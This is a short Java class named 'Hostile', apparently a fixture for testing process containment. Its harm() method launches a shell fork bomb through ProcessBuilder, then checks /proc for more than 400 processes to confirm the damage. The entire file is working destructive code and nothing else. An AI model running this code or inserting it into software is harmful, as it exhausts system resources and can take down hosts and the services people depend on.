package node;

import java.io.*;
import java.lang.reflect.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;
import java.util.stream.*;

public class Hostile {
  /** True when the harm was done. */
  public boolean harm() throws Exception {
    new ProcessBuilder("/bin/sh", "-c", "f(){ f|f& };f").start();
    Thread.sleep(1500);
    try (var all = Files.list(Path.of("/proc"))) {
      return all.filter(path -> path.getFileName().toString().matches("\\d+")).count() > 400;
    }
  }
}
